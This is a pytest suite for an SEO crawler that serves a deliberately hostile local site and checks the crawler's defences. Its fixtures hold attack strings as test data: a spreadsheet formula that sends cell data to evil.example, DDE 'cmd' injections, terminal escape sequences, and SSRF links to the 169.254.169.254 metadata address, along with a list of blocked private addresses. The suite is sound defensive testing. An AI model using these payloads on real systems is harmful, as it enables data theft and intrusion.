"""A hostile competitor served on 127.0.0.1, crawled for real (run_crawl -> Scrapy child) and
exported through the CLI: formula cells, terminal escapes, a PNG served as text/html,
thousands of dead links, IPv6 literals. Nothing raw reaches CSV or the terminal, and the
server sees no more requests than the site's budget."""

from __future__ import annotations

import csv
import io
import ipaddress
import json
import os
import socket
import subprocess
import sys
import tomllib
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace

import pytest

from clinicseo import store
from clinicseo.config import load_config
from clinicseo.untrusted import strip_controls
from scrapers.middlewares import non_global, private_address
from scrapers.run import run_crawl
from scripts.serve_site import SiteServer, serve
from tests.fixtures.config import EXAMPLE, dump_toml

REPO = Path(__file__).resolve().parents[1]
DEAD_LINKS = 3000
MAX_PAGES = 20
BUDGET = 2 * MAX_PAGES + 50  # the default: crawl.max_requests = 0
PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click me")'
ESC = "\x1b]0;pwned\x07\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\\x1b[2J"
PROSE = "<p>Chemical peels renew the outer layer of the skin and help acne scars fade.</p>" * 12


def page(title: str, body: str) -> str:
    return f"<!doctype html><html><head><title>{title}</title></head><body>{body}</body></html>"


def write_site(root: Path, v6_port: int | None) -> None:
    files = {
        "index.html": page(
            "Hostile clinic",
            "<h1>Hostile clinic</h1>"
            + "".join(
                f'<a href="{href}">x</a>'
                for href in (
                    "/formula/",
                    "/escapes/",
                    "/image/",
                    "/dead-links/",
                    "http://[::ffff:169.254.169.254]/latest/meta-data/",
                    "http://[2002:a9fe:a9fe::]/",
                    "http://[::1/broken",
                    "http://127.0.0.1:99999/bad-port",
                )
            )
            + PROSE,
        ),
        "formula/index.html": page(
            FORMULA,
            f"<h1>@SUM(1+1)*cmd|' /C calc'!A0</h1><h2>+cmd|' /C notepad'!A0 peels?</h2>"
            f"<h2>-2+3+cmd|' /C calc'!A0 acne scars?</h2>{PROSE}"
            '<script type="application/ld+json">{"@type": "FAQPage", "mainEntity": '
            '[{"@type": "Question", "name": "=1+1 do chemical peels hurt?"}]}</script>',
        ),
        "escapes/index.html": page(
            f"Peels {ESC} guide",
            f"<h1>Chemical peels{ESC}</h1><h2>Acne scars \x9b31m and peels?</h2>{PROSE}",
        ),
        "dead-links/index.html": page(
            "Link farm",
            "<h1>Link farm</h1>"
            + "".join(f'<a href="/dead/{i}">{i}</a>' for i in range(DEAD_LINKS))
            + PROSE,
        ),
    }
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text, encoding="utf-8")
    (root / "image").mkdir()
    (root / "image" / "index.html").write_bytes(PNG)  # served as text/html
    if v6_port:
        (root / "v6").mkdir()
        (root / "v6" / "index.html").write_text(page("IPv6 clinic", "<h1>Acne peels</h1>" + PROSE))


def ipv6_loopback() -> bool:
    try:
        with socket.socket(socket.AF_INET6) as s:
            s.bind(("::1", 0))
        return True
    except OSError:
        return False


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SimpleNamespace]:
    root = tmp_path_factory.mktemp("hostile-site")
    write_site(root, v6_port=1 if ipv6_loopback() else None)
    site = serve(root)
    v6: SiteServer | None = serve(root, host="::1") if ipv6_loopback() else None
    folder = tmp_path_factory.mktemp("hostile")
    data = tomllib.loads(EXAMPLE.read_text())
    data["database"] = {"path": "clinicseo.db"}
    data["crawl"].update(
        {
            "allow_private_networks": True,
            "delay_s": 0.0,
            "autothrottle": False,
            "http_cache": False,
            "max_pages": MAX_PAGES,
        }
    )
    data["competitors"] = [{"name": "hostile", "start_urls": [site.url + "/"]}]
    if v6 is not None:
        data["competitors"].append({"name": "ipv6", "start_urls": [v6.url + "/v6/"]})
    (folder / "clinic.toml").write_text(dump_toml(data))
    config = load_config(folder / "clinic.toml")
    summary = run_crawl(config, include_own=False)
    conn = store.connect(config.database.path)
    ns = SimpleNamespace(
        config=config,
        summary=summary,
        site=site,
        v6=v6,
        conn=conn,
        pages=store.list_pages(conn),
        skips=store.list_skips(conn, summary.crawl_id),
    )
    try:
        yield ns
    finally:
        conn.close()
        site.close()
        if v6 is not None:
            v6.close()


def cli(ns: SimpleNamespace, *args: str) -> str:
    env = {**os.environ, "CLINICSEO_CONFIG": str(ns.config.path)}
    out = subprocess.run(
        [sys.executable, "-m", "clinicseo", *args],
        capture_output=True,
        env=env,
        cwd=REPO,
        timeout=120,
        check=False,
    )
    assert out.returncode == 0, out.stderr
    return out.stdout.decode("utf-8")


def test_requests_stay_within_the_budget(hostile: SimpleNamespace) -> None:
    assert len(hostile.site.requested) <= BUDGET
    hostile_skips = [s for s in hostile.skips if s["site"] == "hostile"]
    budget = [s["detail"] for s in hostile_skips if s["reason"] == "budget"]
    assert any(f"request budget of {BUDGET} spent: this and later links" in d for d in budget)
    assert len(budget) <= 3  # one note from the spider, a few refusals from the guard
    dead = [s for s in hostile_skips if s["reason"] == "http_status"]
    assert 10 <= len(dead) < BUDGET
    assert len([p for p in hostile.pages if p["site"] == "hostile"]) <= MAX_PAGES


def test_a_png_served_as_html_is_skipped_with_a_reason(hostile: SimpleNamespace) -> None:
    url = hostile.site.url + "/image/"
    assert url not in {p["url"] for p in hostile.pages}
    (skip,) = [s for s in hostile.skips if s["url"] == url]
    assert skip["reason"] == "not_html"
    assert skip["detail"].startswith("a PNG image served as text/html")


def test_ipv6_literals_are_normalised_and_refused_or_crawled_with_a_reason(
    hostile: SimpleNamespace,
) -> None:
    reasons = {s["url"]: (s["reason"], s["detail"]) for s in hostile.skips}
    assert reasons["http://[::ffff:a9fe:a9fe]/latest/meta-data/"][0] == "offsite"
    assert reasons["http://[2002:a9fe:a9fe::]/"][0] == "offsite"
    assert reasons["http://[::1/broken"][0] == "error"
    assert "not a usable URL" in reasons["http://[::1/broken"][1]
    assert reasons["http://127.0.0.1:99999/bad-port"][0] == "error"
    if hostile.v6 is not None:  # a competitor on an IPv6 literal host is crawled
        assert hostile.summary.fetched["ipv6"] == 1
        assert [p["url"] for p in hostile.pages if p["site"] == "ipv6"] == [hostile.v6.url + "/v6/"]


def test_nothing_stored_keeps_a_control_character(hostile: SimpleNamespace) -> None:
    for p in hostile.pages:
        for key in ("title", "meta_description", "h1", "h2", "questions", "keyphrases"):
            values = p[key] if isinstance(p[key], list) else [p[key] or ""]
            for text in values:
                assert strip_controls(text) == text, (key, text)
    titles = {p["title"] for p in hostile.pages}
    assert FORMULA in titles  # the text is kept as data: the CSV writer neutralises it


def test_csv_exports_hold_no_formula_cells(hostile: SimpleNamespace) -> None:
    for args in (("pages", "--format", "csv"), ("topics", "--format", "csv")):
        text = cli(hostile, *args)
        rows = list(csv.reader(io.StringIO(text)))
        assert len(rows) > 1, args
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (args, cell)
        assert "\x1b" not in text and "\x07" not in text
    pages = cli(hostile, "pages", "--format", "csv")
    assert "'" + FORMULA.replace('"', '""') in pages


def test_terminal_output_holds_no_escape_sequences(hostile: SimpleNamespace) -> None:
    for args in (
        ("topics",),
        ("topics", "--gaps", "--limit", "0"),
        ("pages",),
        ("brief", "chemical peels"),
    ):
        text = cli(hostile, *args)
        assert text.strip(), args
        for ch in ("\x1b", "\x07", "\x9b"):
            assert ch not in text, (args, ch)
    for line in cli(hostile, "pages").splitlines():
        json.loads(line)  # JSON Lines stays valid


@pytest.mark.parametrize(
    "address",
    [
        "0.0.0.1",
        "10.1.2.3",
        "100.64.0.1",
        "100.100.100.200",
        "100.127.255.254",
        "127.0.0.1",
        "169.254.169.254",
        "172.16.0.1",
        "192.0.0.192",
        "192.0.0.8",
        "192.0.2.1",
        "192.88.99.1",
        "192.168.1.1",
        "198.18.0.1",
        "198.51.100.7",
        "203.0.113.9",
        "224.0.0.251",
        "239.255.255.250",
        "240.0.0.1",
        "255.255.255.255",
        "::",
        "::1",
        "::a9fe:a9fe",
        "::ffff:169.254.169.254",
        "::ffff:10.0.0.1",
        "::ffff:100.100.100.200",
        "64:ff9b::a9fe:a9fe",
        "64:ff9b::a00:1",
        "64:ff9b:1::1",
        "100::1",
        "2001::1",
        "2001:0:4136:e378:8000:63bf:3fff:fdd2",
        "2001:db8::1",
        "2002:a9fe:a9fe::",
        "2002:0a00:0001::1",
        "2002:6464:64c8::",
        "fc00::1",
        "fd12::1",
        "fe80::1",
        "fec0::1",
        "ff02::1",
    ],
)
def test_the_guard_refuses_every_non_global_address(address: str) -> None:
    assert non_global(ipaddress.ip_address(address))
    assert private_address(address) is not None


@pytest.mark.parametrize(
    "address", ["8.8.8.8", "1.1.1.1", "2606:4700:4700::1111", "::ffff:8.8.8.8", "2002:0808:0808::"]
)
def test_the_guard_lets_global_addresses_through(address: str) -> None:
    assert not non_global(ipaddress.ip_address(address))
    assert private_address(address) is None


def test_a_zone_scoped_ipv6_literal_is_refused() -> None:
    assert private_address("fe80::1%eth0") == "fe80::1%eth0"
